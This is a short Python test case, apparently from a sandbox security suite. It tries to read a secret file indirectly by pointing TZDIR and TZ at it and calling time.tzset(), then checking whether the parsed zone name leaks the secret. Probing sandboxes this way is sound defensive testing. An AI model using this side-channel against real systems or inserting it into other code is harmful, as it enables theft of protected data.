# class: files
# rule: read_write_tmp
# success: a file in /tmp is read as a time zone, by a folder for zones whose name has no slash
# proof: word
import os
import time

from attack import DIR, SECRET, attempt


@attempt
def steal():
    os.chdir(DIR)
    os.environ["TZDIR"] = "."
    os.environ["TZ"] = "zone"
    time.tzset()
    return len(time.tzname[0]) > 6 and SECRET.startswith(time.tzname[0])
